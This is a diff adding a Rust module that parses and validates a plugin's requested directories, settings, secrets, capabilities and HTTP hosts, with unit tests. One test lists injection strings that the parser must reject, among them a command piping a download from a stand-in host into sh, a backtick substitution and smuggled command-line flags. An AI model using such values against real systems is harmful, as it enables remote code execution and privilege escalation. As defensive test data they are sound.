@@ -1,0 +1,302 @@
+//! The requests of a plugin, in a custom section of its file.
+//!
+//! The section is named [`SECTION`] and holds TOML:
+//!
+//! ```toml
+//! clsid = "6295df40-35ee-11d1-8707-00c04fd93327"
+//! [directories]
+//! left = { access = "read-write", why = "one of the two folders" }
+//! "*.left" = { access = "read-write", why = "the same for each of several pairs" }
+//! [settings]
+//! mode = "what to do where the two sides differ"
+//! [secrets]
+//! token = "signs in at the service"
+//! [allow]
+//! wall-clock = "names copies after the time"
+//! [http]
+//! "api.example.com" = "the service"
+//! ```
+//!
+//! A name consists of ASCII letters, digits, `_`, `-`, `.` and `*`; that of a server may also have
+//! the `:`, `/`, `[` and `]` of an [`HttpGrant`](crate::http::HttpGrant). A `*` in a name stands
+//! for one part between dots. What is not requested is not given, whatever the operator grants.
+
+use std::collections::BTreeMap;
+
+use serde::{Deserialize, Serialize};
+use uuid::Uuid;
+
+use crate::error::ContractError;
+use crate::grants::{Access, Capability};
+
+/// The name of the custom section, of the component or of a core module in it.
+pub const SECTION: &str = "syncmgr-requests";
+
+const SECTION_BYTES: usize = 64 << 10;
+const MAX_ENTRIES: usize = 1_000;
+const NAME_BYTES: usize = 255;
+const WHY_BYTES: usize = 1_000;
+
+/// The requests of a plugin. A file without the section requests nothing.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize, Serialize)]
+pub struct Requests {
+    /// The class of its native handler on Windows; `None`: one that belongs to the name under
+    /// which it is registered.
+    pub clsid: Option<Uuid>,
+    /// Directories, by name.
+    pub directories: Vec<DirectoryRequest>,
+    /// Settings, by name.
+    pub settings: Vec<Request>,
+    /// Secrets, by name.
+    pub secrets: Vec<Request>,
+    /// The time of day and the like.
+    pub capabilities: Vec<(Capability, String)>,
+    /// Hosts to reach by HTTP, as patterns.
+    pub http: Vec<Request>,
+}
+
+/// One thing that a plugin wants.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize, Serialize)]
+pub struct Request {
+    /// Its name, with `*` for any one part between dots.
+    pub name: String,
+    /// The purpose, as its author wrote it: escape it before showing it.
+    pub why: String,
+}
+
+/// One directory that a plugin wants.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize, Serialize)]
+pub struct DirectoryRequest {
+    /// Its name, with `*` for any one part between dots.
+    pub name: String,
+    /// The requested access.
+    pub access: Access,
+    /// The purpose, as its author wrote it: escape it before showing it.
+    pub why: String,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Text {
+    clsid: Option<Uuid>,
+    #[serde(default)]
+    directories: BTreeMap<String, DirectoryText>,
+    #[serde(default)]
+    settings: BTreeMap<String, String>,
+    #[serde(default)]
+    secrets: BTreeMap<String, String>,
+    #[serde(default)]
+    allow: BTreeMap<Capability, String>,
+    #[serde(default)]
+    http: BTreeMap<String, String>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct DirectoryText {
+    access: Access,
+    #[serde(default)]
+    why: String,
+}
+
+impl Requests {
+    /// Reads the content of a section.
+    ///
+    /// # Errors
+    /// [`ContractError::Requests`].
+    pub fn parse(section: &[u8]) -> Result<Self, ContractError> {
+        let refuse = |message: String| ContractError::Requests { message };
+        if section.len() > SECTION_BYTES {
+            return Err(refuse(format!("there are more than {SECTION_BYTES} bytes of them")));
+        }
+        let text = std::str::from_utf8(section).map_err(|_| refuse("not Unicode".to_owned()))?;
+        let text: Text =
+            toml::from_str(text).map_err(|error| refuse(error.message().to_owned()))?;
+        let mut entries = 0;
+        let mut request = |name: String, why: String, also: &str| {
+            entries += 1;
+            if entries > MAX_ENTRIES {
+                return Err(refuse(format!("there are more than {MAX_ENTRIES}")));
+            }
+            if name.is_empty() || name.len() > NAME_BYTES || why.len() > WHY_BYTES {
+                return Err(refuse(format!(
+                    "a name has 1 to {NAME_BYTES} bytes, and a reason at most {WHY_BYTES}"
+                )));
+            }
+            // An operator pastes what `syncmgr inspect` shows.
+            let is_plain =
+                |c: char| c.is_ascii_alphanumeric() || "_-.*".contains(c) || also.contains(c);
+            if !name.chars().all(is_plain) {
+                return Err(refuse(format!(
+                    "the name {name:?} has other characters than letters, digits, `_`, `-`, `.` \
+                     and `*`"
+                )));
+            }
+            Ok(Request { name, why })
+        };
+        if text.clsid.is_some_and(|clsid| clsid.is_nil()) {
+            return Err(refuse("`clsid` is GUID_NULL, which is no class".to_owned()));
+        }
+        let mut requests = Self { clsid: text.clsid, ..Self::default() };
+        for (name, directory) in text.directories {
+            let Request { name, why } = request(name, directory.why, "")?;
+            let access = directory.access;
+            requests.directories.push(DirectoryRequest { name, access, why });
+        }
+        for (capability, why) in text.allow {
+            let Request { why, .. } = request(capability.name().to_owned(), why, "")?;
+            requests.capabilities.push((capability, why));
+        }
+        for (from, to, also) in [
+            (text.settings, &mut requests.settings, ""),
+            (text.secrets, &mut requests.secrets, ""),
+            (text.http, &mut requests.http, ":/[]"),
+        ] {
+            for (name, why) in from {
+                to.push(request(name, why, also)?);
+            }
+        }
+        Ok(requests)
+    }
+
+    /// Whether nothing is wanted.
+    pub fn is_empty(&self) -> bool {
+        *self == Self::default()
+    }
+
+    /// Returns the requested access to a directory of this name. `None`: it is not requested.
+    pub fn directory(&self, name: &str) -> Option<Access> {
+        let wanted = self.directories.iter().filter(|request| matches(&request.name, name));
+        wanted.map(|request| request.access).max()
+    }
+
+    /// Whether it wants a setting of this name.
+    pub fn setting(&self, name: &str) -> bool {
+        self.settings.iter().any(|request| matches(&request.name, name))
+    }
+
+    /// Whether it wants a secret of this name.
+    pub fn secret(&self, name: &str) -> bool {
+        self.secrets.iter().any(|request| matches(&request.name, name))
+    }
+
+    /// Whether it wants this.
+    pub fn capability(&self, capability: Capability) -> bool {
+        self.capabilities.iter().any(|(wanted, _)| *wanted == capability)
+    }
+}
+
+/// Whether a name is one that the pattern stands for.
+fn matches(pattern: &str, name: &str) -> bool {
+    let mut parts = name.split('.');
+    pattern
+        .split('.')
+        .all(|wanted| parts.next().is_some_and(|part| wanted == "*" || wanted == part))
+        && parts.next().is_none()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_star_stands_for_one_part() {
+        for (pattern, name, expected) in [
+            ("left", "left", true),
+            ("left", "right", false),
+            ("*.left", "docs.left", true),
+            ("*.left", "left", false),
+            ("*.left", "a.b.left", false),
+            ("*", "left", true),
+            ("*", "a.b", false),
+        ] {
+            assert_eq!(matches(pattern, name), expected, "{pattern} for {name}");
+        }
+    }
+
+    #[test]
+    fn requests_are_read() {
+        let requests = Requests::parse(
+            br#"
+            [directories]
+            left = { access = "read-only", why = "a" }
+            "*" = { access = "read-write" }
+            [settings]
+            mode = "b"
+            [secrets]
+            token = "c"
+            [allow]
+            wall-clock = "d"
+            [http]
+            "api.example.com" = "e"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(requests.directory("left"), Some(Access::ReadWrite));
+        assert_eq!(requests.directory("a.b"), None);
+        assert!(requests.setting("mode") && !requests.setting("token"));
+        assert!(requests.secret("token") && !requests.secret("mode"));
+        assert!(requests.capability(Capability::WallClock));
+        assert!(!requests.capability(Capability::Randomness));
+        assert_eq!(requests.http.len(), 1);
+        assert!(Requests::parse(b"").unwrap().is_empty());
+    }
+
+    #[test]
+    fn what_is_no_request_is_refused() {
+        let many: String = (0..=MAX_ENTRIES).map(|n| format!("n{n} = \"\"\n")).collect();
+        let many = format!("[settings]\n{many}");
+        let long = format!("[settings]\n{} = \"\"", "x".repeat(256));
+        let large = " ".repeat(SECTION_BYTES + 1);
+        for text in [
+            &b"\xff"[..],
+            b"[",
+            b"[other]",
+            b"[allow]\ntime-travel = \"\"",
+            b"[directories]\nleft = \"read-write\"",
+            b"[directories]\nleft = { access = \"all\" }",
+            b"[settings]\n\"\" = \"\"",
+            many.as_bytes(),
+            long.as_bytes(),
+            large.as_bytes(),
+        ] {
+            let refused = Requests::parse(text);
+            let shown = String::from_utf8_lossy(&text[..text.len().min(40)]);
+            assert!(matches!(refused, Err(ContractError::Requests { .. })), "{shown}");
+        }
+    }
+
+    #[test]
+    fn a_name_has_no_character_that_means_something_to_a_shell() {
+        let tables = ["directories", "settings", "secrets", "http"];
+        for (name, good) in [
+            ("left", [true; 4]),
+            ("*.My_docs-2", [true; 4]),
+            ("*.example.com", [true; 4]),
+            ("local:https://[::1]:8080", [false, false, false, true]),
+            ("source=$HOME;curl -s evil.example|sh;#", [false; 4]),
+            ("inbox=/ --allow wall-clock --dir x", [false; 4]),
+            ("s\u{43e}urce", [false; 4]),
+            ("mode=`id`", [false; 4]),
+            ("token=env:HOME", [false; 4]),
+            ("a b", [false; 4]),
+            ("a\nb", [false; 4]),
+            ("a\u{202e}b", [false; 4]),
+            ("a/b", [false, false, false, true]),
+            ("~", [false; 4]),
+            ("a'b", [false; 4]),
+            ("!a", [false; 4]),
+        ] {
+            for (table, good) in tables.iter().zip(good) {
+                let key = toml::Value::String(name.to_owned());
+                let value = match *table {
+                    "directories" => "{ access = \"read-only\" }",
+                    _other => "\"why\"",
+                };
+                let text = format!("[{table}]\n{key} = {value}\n");
+                let parsed = Requests::parse(text.as_bytes());
+                assert_eq!(parsed.is_ok(), good, "{text}: {parsed:?}");
+            }
+        }
+    }
+}
